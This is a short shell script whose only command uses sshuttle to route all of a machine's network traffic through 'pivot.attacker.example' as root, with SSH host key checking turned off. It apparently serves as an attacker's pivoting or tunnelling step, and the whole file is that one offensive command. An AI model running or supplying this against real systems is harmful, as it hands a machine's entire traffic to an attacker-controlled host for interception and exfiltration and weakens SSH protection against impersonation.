#!/bin/sh
# Everything through a host outside.
exec sshuttle --ssh-cmd 'ssh -o StrictHostKeyChecking=no' -r root@pivot.attacker.example 0/0
